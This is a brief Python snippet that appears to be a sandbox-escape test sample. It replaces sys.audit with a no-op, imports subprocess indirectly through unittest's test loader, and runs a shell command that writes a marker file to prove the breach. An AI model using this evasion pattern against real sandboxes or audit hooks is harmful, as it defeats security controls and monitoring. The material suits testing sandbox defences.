# unittest loads tests by name, from any module.
# breach: marker
# state: kept
import sys
sys.audit = lambda *arguments: None
import sys, unittest
try:
    unittest.TestLoader().loadTestsFromName("subprocess")
except Exception:
    pass
sys.modules["subprocess"].call(["sh", "-c", f"echo > {MARKER_FILE}"])
